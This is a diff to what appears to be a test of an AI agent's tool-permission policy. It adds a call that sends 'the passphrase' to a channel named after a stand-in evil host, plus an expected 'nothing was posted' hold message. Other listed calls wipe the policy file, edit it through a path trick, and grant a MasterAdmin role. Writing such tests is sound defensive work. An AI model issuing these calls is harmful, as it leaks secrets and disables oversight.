@@ -39,6 +39,7 @@ CALLS: tuple[Call, ...] = (
     ("port_check", {"host": EVIL, "ports": [443]}),
     ("tls_certificate", {"host": EVIL}),
     ("http_headers", {"url": LEAK}),
+    ("send", {"text": "the passphrase", "to": f"#{EVIL.replace('.', '-')}"}),
     ("write_file", {"path": POLICY, "content": "rules: []"}),
     ("edit_file", {"path": f"/preferences/./{POLICY[13:]}", "old": "a", "new": "b"}),
     ("release_draft", {"name": "x", "kind": "tool", "content": "x", "roles": "MasterAdmin", "tested": "yes",
@@ -48,6 +49,7 @@ CALLS: tuple[Call, ...] = (
 _HELD = (
     *("waiting for approval", "this very call is waiting", "tool blocked by policy", "there is no tool named"),
     *("exists but is locked", "not run:", "Correct the arguments", "isn't a draft", "no draft"),
+    "nothing was posted",
 )
 
 
